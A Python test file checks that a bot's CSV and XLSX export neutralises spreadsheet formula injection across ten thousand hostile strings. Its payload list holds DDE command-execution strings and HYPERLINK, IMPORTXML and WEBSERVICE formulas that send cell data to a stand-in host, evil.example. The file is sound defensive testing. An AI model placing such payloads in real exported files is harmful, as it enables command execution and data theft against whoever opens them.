"""Sheets as files (P20): nothing that people typed is a live formula, numbers are numbers, words come back whole."""

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime
from random import Random

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from bot.sheets import MOST_IN_A_CELL, file_of
from chat.message import Reader
from chat.reply import Sheet
from language.inert import inert, revived
from language.money import Money
from language.text import At, Day, Share, text

READER = Reader("en", "Asia/Shanghai")
BEGINS = "=+-@＝＋－＠"
BEFORE = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\x00",
    "\ufeff",
    "\u3000",
    "\xa0",
    '"',
    "'",
    "''",
    "\u200b",
    "  \t ",
    "\x0b",
)
INSIDE = ("a;", "a,", "a|", "a\t", "a\n", 'a";', "a; ", 'a,"', "a\r", "a ;\t ")
PAYLOADS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"click")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    'WEBSERVICE("http://evil.example")',
    'DDE("cmd";"/C calc";"x")',
    "5",
    "ＳＵＭ（１）",
    "{=1}",
    "a" * 40,
)
READERS = (",", ";", "\t", "|")
"""What the machine that opens the file may take for the separator."""
PASSED = ' \t\r\n\x00\x0b\x0c\xa0\u3000\ufeff\u200b"'
"""What may be passed over before a cell is read; a ' is not: it says that the cell is text."""


def hostile(count: int) -> list[str]:
    """So many different strings that try to be formulas, in the full form of every width, at the start and within."""
    found = {f"{lead}{begin}{load}" for lead in (*BEFORE, *INSIDE) for begin in BEGINS for load in PAYLOADS}
    random = Random(20)
    letters = "".join(BEGINS) + "\t\r\n\x00 ;,|\"'`ab1(){}!$#%&\u3000\ufeff签"
    while len(found) < count:
        found.add("".join(random.choices(letters, k=random.randint(1, 12))))
    return sorted(found)[:count]


STRINGS = hostile(10_000)


def live(data: bytes) -> Iterator[tuple[str, str]]:
    """Cells that would be formulas, by the separator they are read with."""
    body = data.decode("utf-8-sig")
    for separator in READERS:
        for row in csv.reader(io.StringIO(body, newline=""), delimiter=separator):
            for cell in row:
                if cell.lstrip(PASSED)[:1] in tuple(BEGINS):
                    yield separator, cell


def test_ten_thousand_hostile_strings_are_no_formula_in_csv() -> None:
    assert len(set(STRINGS)) == 10_000
    data = file_of(Sheet("x", ("name", "words"), tuple((n, one) for n, one in enumerate(STRINGS))), READER, "csv")
    assert list(live(data)) == []


def test_the_check_finds_a_formula_where_there_is_one() -> None:
    """So that the test above cannot pass blind."""
    for bad in ("=1+1", "ok;=1+1", "ok\t@x", "ok| ＝1", "\t=1"):
        plain = io.StringIO()
        csv.writer(plain, quoting=csv.QUOTE_ALL).writerow(["x", bad])
        assert list(live(plain.getvalue().encode())), bad


def test_ten_thousand_hostile_strings_are_words_in_xlsx() -> None:
    data = file_of(Sheet("=1+1", ("words",), tuple((one,) for one in STRINGS)), READER, "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        pages = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/")]
    assert pages
    for page in pages:
        assert "<f>" not in page
        assert "<f " not in page
        assert "<hyperlink" not in page
        assert set(re.findall(r'<c [^>]*t="(\w+)"', page)) == {"s"}
    rows = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    assert len(rows) == 10_001
    same = sum(row[0] == one for row, one in zip(rows[1:], STRINGS, strict=True))
    plain = [one for one in STRINGS if one.isprintable()]
    printable = {row[0] for row in rows[1:]}
    assert set(plain) <= printable
    assert same >= len(plain)


def test_words_come_back_from_csv_as_they_were() -> None:
    data = file_of(Sheet("x", ("words",), tuple((one,) for one in STRINGS)), READER, "csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [revived(row[0]) for row in rows[1:]] == STRINGS


@given(st.text(max_size=40))
@example("'=1")
@example("'\tx")
@example("a;'=b")
@example("\t\n=")
@example("''''")
def test_what_was_made_inert_can_be_given_back(words: str) -> None:
    assert revived(inert(words)) == words


@pytest.mark.parametrize("words", ["", "签单 5万", "a-b", "王建国", "a+b@example.com", "3 - 2", "it's", "'quoted'"])
def test_ordinary_words_are_left_as_they_are(words: str) -> None:
    assert inert(words) == words


@pytest.mark.parametrize(
    ("words", "shown"),
    [("=1+1", "'=1+1"), ("-5", "'-5"), ("a;=1", "a;'=1"), ("'=1", "''=1"), ("\tx", "'\tx"), (" ＝1", "' ＝1")],
)
def test_what_could_begin_a_formula_has_a_mark(words: str, shown: str) -> None:
    assert inert(words) == shown


def test_numbers_money_and_shares_are_numbers_and_days_are_days() -> None:
    row = (-5, Money(1_234_560, "CNY"), Share(8_830), Day(date(2026, 11, 20)), text("visits"), Money(7, "JPY"))
    at = At(datetime(2026, 11, 20, 1, 30, tzinfo=UTC))
    sheet = Sheet("x", ("n", "money", "share", "day", "what", "yen", "at"), ((*row, at),))
    line = file_of(sheet, READER, "csv").decode("utf-8-sig").splitlines()[1]
    assert line == '-5,12345.60,0.8830,"2026-11-20","visits",7,"2026-11-20 09:30"'
    rows = (
        CalamineWorkbook.from_filelike(io.BytesIO(file_of(sheet, READER, "xlsx"))).get_sheet_by_index(0).to_python()
    )
    assert rows[1] == [-5.0, 12345.6, 0.883, "2026-11-20", "visits", 7.0, "2026-11-20 09:30"]


def test_what_no_file_can_hold_is_replaced_or_cut() -> None:
    long = "长" * 40_000
    sheet = Sheet("[a]*?/\\:'" + "x" * 40, ("h",), (("a\ud800b",), (long,)))
    assert "a\ufffdb" in file_of(sheet, READER, "csv").decode("utf-8-sig")
    rows = (
        CalamineWorkbook.from_filelike(io.BytesIO(file_of(sheet, READER, "xlsx"))).get_sheet_by_index(0).to_python()
    )
    assert rows[1] == ["a\ufffdb"]
    assert len(rows[2][0]) == MOST_IN_A_CELL


def test_many_separators_in_a_row_take_no_longer_than_their_length() -> None:
    words = "\t;" * 100_000 + "="
    assert revived(inert(words)) == words
